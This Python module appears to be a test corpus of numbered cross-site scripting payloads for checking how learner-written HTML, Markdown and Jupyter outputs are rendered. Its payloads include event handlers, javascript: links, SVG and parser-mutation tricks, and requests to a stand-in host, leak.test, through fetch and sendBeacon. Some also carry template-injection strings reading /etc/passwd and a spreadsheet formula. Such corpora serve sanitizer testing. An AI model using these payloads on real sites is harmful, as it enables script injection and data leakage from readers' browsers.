"""What a learner may write where a page will show it: text that tries to come alive in a reader's browser.

`NN` stands for a payload's number, so that whatever happens can be told whose it was: a payload calls
`fired(NN)`, opens a dialog that says NN, or asks http://leak.test/NN. By class, as HTML and as Markdown.
"""

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

RUN = "fired(NN)"
ASK = "http://leak.test/NN"
# The number is not known yet, so what is encoded is a script that reads it off its own address.
HTML64 = base64.b64encode(b"<script>alert(location.hash.slice(1))</script>").decode()


@dataclass(frozen=True)
class Payload:
    """One attempt.

    Args:
        kind: its class.
        text: with NN where its number belongs.
        markdown: it is alive once it is rendered as Markdown; otherwise as it stands in HTML.
        dormant: this Chromium does nothing with it. Kept for browsers that did, and for parsers that may.
        leaves: it needs no script and no load, only a reader who is sent to another page; no policy that a
            page can carry in itself forbids that.
    """

    kind: str
    text: str
    markdown: bool = False
    dormant: bool = False
    leaves: bool = False

    def numbered(self, number: int) -> str:
        return self.text.replace("NN", str(number))


def payloads() -> list[Payload]:
    """The whole corpus, always in the same order."""
    return [*_alive(), *_dormant(), *_markdown()]


def _alive() -> Iterator[Payload]:
    by_kind = {
        "script": (
            f"<script>{RUN}</script>",
            f"<ScRiPt >{RUN}</sCrIpT>",
            f"<script type=module>{RUN}</script>",
            f"<script/x>{RUN}</script x>",
            f"<script src={ASK}.js></script>",
            "<script src=//leak.test/NN.js></script>",
            f"<script src='data:text/javascript,{RUN}'></script>",
            f"</title><script>{RUN}</script>",
            f"</textarea></style></pre><script>{RUN}</script>",
            "<script>alert(NN)</script>",
            "<script>window.open('http://leak.test/NN')</script>",
            "<script>location='http://leak.test/NN'</script>",
            "<script>fetch('http://leak.test/NN')</script>",
            "<script>navigator.sendBeacon('http://leak.test/NN')</script>",
            "<script>new Image().src='http://leak.test/NN'</script>",
            f"<script>setTimeout('{RUN}')</script>",
            "<script>import('http://leak.test/NN.js')</script>",
            "<script>\\u0066ired(NN)</script>",
        ),
        "event handler": (
            f"<img src=x onerror={RUN}>",
            f"<img src=x onerror='{RUN}'//",
            f"<img/src=x/onerror={RUN}>",
            f"<img src=x\tonerror\n=\n{RUN}>",
            f"<IMG SRC=x OnErRoR={RUN}>",
            "<img src=x onerror=&#102;ired(NN)>",
            '<img src=x onerror="&#x66;ired(NN)">',
            f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={RUN} onerror={RUN}>",
            f"<body onload={RUN}>",
            f"<body onpageshow={RUN}>",
            f"<details open ontoggle={RUN}>x</details>",
            f"<input autofocus onfocus={RUN}>",
            f"<select autofocus onfocus={RUN}></select>",
            f"<div tabindex=1 autofocus onfocus={RUN}>x</div>",
            f"<p onmouseover={RUN}>x</p>",
            f"<b onclick={RUN}>x</b>",
            f"<p onpointerover={RUN} onmousedown={RUN}>x</p>",
            f"<audio src=x onerror={RUN}></audio>",
            f"<video><source onerror={RUN} src=x></video>",
            f"<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart={RUN}>x",
            f"<p onanimationend={RUN} style='animation:k 1ms'>x<style>@keyframes k{{to{{top:1px}}}}</style>",
            f"<iframe onload={RUN}></iframe>",
            f"<link rel=stylesheet href=x onerror={RUN} onload={RUN}>",
            f"<object data=x onerror={RUN} onload={RUN}></object>",
            f"<embed src=x onload={RUN}>",
            f"<button popovertarget=p onclick={RUN}>x</button><div popover id=p>y</div>",
            f"<a id=x tabindex=1 onfocus={RUN}>x</a>",
        ),
        "svg and math": (
            f"<svg onload={RUN}>",
            f"<svg/onload={RUN}>",
            f"<svg><script>{RUN}</script></svg>",
            "<svg><script>&#102;ired(NN)</script></svg>",
            f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
            f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
            f"<svg><set onbegin={RUN} attributeName=x dur=1s></svg>",
            f"<svg><image href=x onerror={RUN}></svg>",
            f"<svg><image href={ASK} /></svg>",
            f"<svg><a href='javascript:{RUN}'><text y=20>x</text></a></svg>",
            f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>x</text></a></svg>",
            f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
            f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
            f"<svg><style>*{{fill:url({ASK})}}</style><image href={ASK} /></svg>",
            f"<svg><title><img src=x onerror={RUN}></title></svg>",
            f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
            f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        ),
        "address": (
            f"<a href='javascript:{RUN}'>x</a>",
            f"<a href='JaVaScRiPt:{RUN}'>x</a>",
            f"<a href='java\nscript:{RUN}'>x</a>",
            f"<a href='java\tscript:{RUN}'>x</a>",
            f"<a href='&#106;avascript:{RUN}'>x</a>",
            f"<a href='javascript&colon;{RUN}'>x</a>",
            "<a href='java&Tab;script&colon;fired&lpar;NN&rpar;'>x</a>",
            f"<a href='\x01javascript:{RUN}'>x</a>",
            f"<a href=' &#14; javascript:{RUN}'>x</a>",
            "<a href='javascript:%66ired(NN)'>x</a>",
            f"<a href='javascript://x%0a{RUN}'>x</a>",
            f"<iframe src='javascript:parent.{RUN}'></iframe>",
            f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
            f"<iframe src='data:text/html;base64,{HTML64}#NN'></iframe>",
            f"<iframe src='data:text/html,{quote('<script>fired(')}NN{quote(')</script>')}'></iframe>",
            f"<map name=m><area href='javascript:{RUN}' coords=0,0,9,9></map><img usemap=#m>",
        ),
        "frame": (
            f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
            f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
            f"<iframe sandbox=allow-scripts srcdoc='<script>{RUN}</script>'></iframe>",
            f"<iframe src={ASK}></iframe>",
            f"<object data='data:text/html,<script>{RUN}</script>'></object>",
            f"<object data={ASK}></object>",
            f"<embed src={ASK}>",
            f"<embed src='data:text/html,<script>{RUN}</script>'>",
            f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
            f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
        ),
        "mutation": (
            f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
            f"<math><mtext><table><mglyph><style><!--</style>"
            f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'><img src=x onerror={RUN}>",
            f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
            f"<!--><img src=x onerror={RUN}>-->",
            f"<!-- x --!><img src=x onerror={RUN}>-->",
            f"<![CDATA[><img src=x onerror={RUN}>]]>",
            f"<?xml ><img src=x onerror={RUN}>?>",
            f"<xmp></xmp><img src=x onerror={RUN}>",
            f"<select><option></select><img src=x onerror={RUN}>",
            f"<table><td><a title='</table>'><img src=x onerror={RUN}>",
            f"<textarea></textarea><svg><desc><img src=x onerror={RUN}></desc></svg>",
        ),
        "unclosed": (
            f"<img src=x onerror={RUN} ",
            f'"><img src=x onerror={RUN}>',
            f"'><img src=x onerror={RUN}>",
            f"--><img src=x onerror={RUN}>",
            f"]]><img src=x onerror={RUN}>",
            f"</code></pre></details><img src=x onerror={RUN}>",
            f'<b title="<img src=x onerror={RUN}>"><img src=x onerror={RUN}>',
            f"</script><img src=x onerror={RUN}>",
            f"</li></ul></div></body></html><img src=x onerror={RUN}>",
        ),
        "style": (
            f"<p style='background:url({ASK})'>x</p>",
            f"<style>@import '{ASK}';</style>",
            f"<style>body{{background:url({ASK})}}</style>",
            f"<style>h1[class]{{}} html{{background:url({ASK}?{{}})}}</style>",
            f"<style>@font-face{{font-family:f;src:url({ASK})}} *{{font-family:f!important}}</style>x",
            f"<style>*{{list-style:url({ASK})}}</style><li>x",
            f"<link rel=stylesheet href={ASK}>",
            f"<link rel=preload as=image href={ASK}>",
            f"<link rel=prefetch href={ASK}>",
            f"<link rel=modulepreload href={ASK}.js>",
            f"<p style='border-image:url({ASK}) 1'>x</p>",
            f"<p style='content:url({ASK})'>x</p>",
        ),
        "load": (
            f"<img src={ASK}>",
            f"<img srcset={ASK}>",
            f"<picture><source srcset={ASK}><img src=x></picture>",
            f"<video poster={ASK}></video>",
            f"<video src={ASK} autoplay></video>",
            f"<audio src={ASK} autoplay></audio>",
            f"<video><track default src={ASK}></video><video src=x><track src={ASK} default></video>"
            f"<input type=image src={ASK}>",
            f"<input type=image src={ASK}>",
            f"<table background={ASK}><tr><td>x</table>",
            "<base href=http://leak.test/NN/><img src=y>",
        ),
        "form": (
            f"<form action={ASK}><button>x</button></form>",
            f"<form action='javascript:{RUN}'><button>x</button></form>",
            f"<form><button formaction='javascript:{RUN}'>x</button></form>",
            f"<form><button formaction={ASK}>x</button></form>",
            f"<form id=f action={ASK} method=post></form><input type=submit form=f>",
        ),
    }
    for kind, texts in by_kind.items():
        for text in texts:
            yield Payload(kind, text)
    for kind, text in (
        ("refresh", f"<meta http-equiv=refresh content='0;url={ASK}'>"),
        ("refresh", f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>"),
        ("link", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>"),
        ("refresh", f"<META HTTP-EQUIV='Refresh' CONTENT='0; URL={ASK}'>"),
        ("link", f"<a href={ASK}>x</a>"),
        ("link", f"<a target=_blank href={ASK}>x</a>"),
        ("link", f"<a ping={ASK} href={ASK}>x</a>"),
        ("link", f"<svg><a href={ASK}><text y=20>x</text></a></svg>"),
        ("link", "<base href=http://leak.test/NN/><a href=y>x</a>"),
    ):
        yield Payload(kind, text, leaves=True)


def _dormant() -> Iterator[Payload]:
    for kind, text in (
        ("script", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
        ("script", f"<script>{RUN}"),
        ("script", f"＜script＞{RUN}＜/script＞"),
        ("script", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
        ("script", f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;"),
        ("script", f"%3Cscript%3E{RUN}%3C/script%3E"),
        ("script", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"),
        ("script", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"),
        ("script", f"<\x00script>{RUN}</script>"),
        ("script", f"<script type=text/vbscript>{RUN}</script>"),
        ("template", "{{ fired(NN) }}"),
        ("template", "{{ cycler.__init__.__globals__ }}{% raw %}NN"),
        ("template", "{% include '/etc/passwd' %} NN"),
        ("template", "${fired(NN)} #{fired(NN)} <%= fired(NN) %>"),
        ("template", "{{constructor.constructor('fired(NN)')()}}"),
        ("address", f"<a href='vbscript:{RUN}'>x</a>"),
        ("address", "<a href='file:///etc/passwd#NN'>x</a>"),
        ("style", f"<p style='width:expression({RUN})'>x</p>"),
        ("style", f"<p style=\"background:url('javascript:{RUN}')\">x</p>"),
        ("style", f"<p style='behavior:url(#x)'>{RUN}</p>"),
        ("svg and math", f"<math><a href='javascript:{RUN}'>x</a></math>"),
        (
            "mutation",
            f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        ),
        ("mutation", f"<x<img src=x onerror={RUN}>"),
        ("unclosed", f"<svg onload={RUN} x='"),
        ("load", f"<body background={ASK}>"),
        ("frame", f"<frameset><frame src='javascript:{RUN}'></frameset>"),
        ("frame", f"<applet code={RUN}></applet>"),
        ("frame", f"<isindex action='javascript:{RUN}' type=image>"),
        ("refresh", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"),
        ("refresh", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">NN"),
        ("refresh", "<meta http-equiv=set-cookie content='a=NN'>"),
        ("svg and math", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'></svg>"),
        ("svg and math", f"<math href='javascript:{RUN}'><mi>x</mi></math>"),
        ("event handler", f"<marquee onstart={RUN}>x</marquee>"),
        ("terminal", "\x1b[31mred NN\x1b[0m \x1b]0;title\x07 \x1b]8;;http://leak.test/NN\x1b\\x \x9b31m"),
        ("direction", "\u202egnp.NN\u202c \u2066a\u2069 \u200fb\u200e \u061cc"),
        ("controls", "a\x00b\x08\x08c\x0cd\x7fe\x85NN"),
        ("invisible", "fi\u200bred\ufeff(NN)\u00ad"),
        ("formula", '=HYPERLINK("http://leak.test/NN")'),
    ):
        yield Payload(kind, text, dormant=True)


def _markdown() -> Iterator[Payload]:
    for text in (
        f"![x]({ASK})",
        f"![x][y]\n\n[y]: {ASK}",
        f"# <img src=x onerror={RUN}>",
        f"- <svg onload={RUN}>",
        f"| <img src=x onerror={RUN}> |\n|---|\n| x |",
        f"> <img src=x onerror={RUN}>",
        f"**<img src=x onerror={RUN}>**",
        f"<div>\n\n<img src=x onerror={RUN}>\n\n</div>",
        f"```\nx\n```\n<img src=x onerror={RUN}>",
        f"~~~ <x>\n~~~\n<img src=x onerror={RUN}>",
        f"<details><summary>x</summary>\n\n<img src=x onerror={RUN}>\n\n</details>",
        f"a&#13;&#13;<img src=x onerror={RUN}>",
        f"<p>a&#13;&#13;![x]({ASK})</p>\n\n![x]({ASK})",
        f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
        f"$x$ <img src=x onerror={RUN}>",
        f"[x](javascript:{RUN})",
        f"[x](JaVaScRiPt:{RUN})",
        f"[x](java&#115;cript:{RUN})",
        f"[x](<javascript:{RUN}>)",
        f"[x](data:text/html;base64,{HTML64}#NN)",
        f"<javascript:{RUN}>",
        f"[x]: javascript:{RUN}\n\n[x]",
    ):
        yield Payload("markdown", text, markdown=True)
    for text in (f"[x]({ASK})", f"<{ASK}>", f"[x][y]\n\n[y]: {ASK}", f"[x]({ASK} 'title')"):
        yield Payload("markdown link", text, markdown=True, leaves=True)
    for text in (
        f"![x](javascript:{RUN})",
        f'![x](x" onerror="{RUN})',
        f'[x](x "y" onmouseover="{RUN})',
        f"```html\n<img src=x onerror={RUN}>\n```",
        f"`<img src=x onerror={RUN}>`",
        f"    <img src=x onerror={RUN}>",
        f"\\<img src=x onerror={RUN}\\>",
        f"$\\href{{javascript:{RUN}}}{{x}}$",
        f"$\\\\href{{javascript:{RUN}}}{{x}}$",
        f"<p>$&#92;href{{javascript:{RUN}}}{{x}}$</p>",
        f"$\\href1{{javascript:{RUN}}}$",
        f"$\\mmlToken{{mi}}[href=javascript:{RUN}]{{x}} \\style{{x:{RUN}}}{{y}} \\require{{action}}$",
        "&#x202e;gnp.NN&#x202c; &#27;[31m &#12; &#1564;",
    ):
        yield Payload("markdown", text, markdown=True, dormant=True)


def outputs(text: str) -> list[dict[str, object]]:
    """Outputs of a code cell with `text` in each place and in each type that Jupyter may show."""
    script = f"<html><body>{text}</body></html>"
    types: dict[str, object] = {
        "text/html": script,
        "text/markdown": text,
        "text/latex": text,
        "text/plain": text,
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>",
        "image/png": f'x" onerror="x\' {text}',
        "application/javascript": text,
        "text/javascript": text,
        "application/json": {"x": text},
        "application/geo+json": {"x": text},
        "application/pdf": text,
        "application/vnd.vega.v5+json": {"title": text, "data": [{"url": ASK}]},
        "application/vnd.vegalite.v5+json": {"title": text, "data": {"url": ASK}},
        "application/vnd.plotly.v1+json": {"data": [], "layout": {"title": text}},
        "application/vnd.bokehjs_exec.v0+json": text,
        "application/vnd.jupyter.widget-view+json": {"model_id": text, "version_major": 2},
        "application/vnd.dataresource+json": {"schema": text},
    }
    made: list[dict[str, object]] = []
    for kind, value in types.items():
        made.append(
            {"output_type": "display_data", "data": {kind: value}, "metadata": {kind: {"title": text}}}
        )
    made.append({"output_type": "display_data", "data": types, "metadata": {}})
    made.append(
        {"output_type": "execute_result", "data": types, "metadata": {"isolated": True}, "execution_count": 1}
    )
    for name in ("stdout", "stderr", text):
        made.append({"output_type": "stream", "name": name, "text": text})
    made.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
    # Whatever JSON carries: a list of lines is one of Jupyter's two ways to write text.
    return list(json.loads(json.dumps(made)))
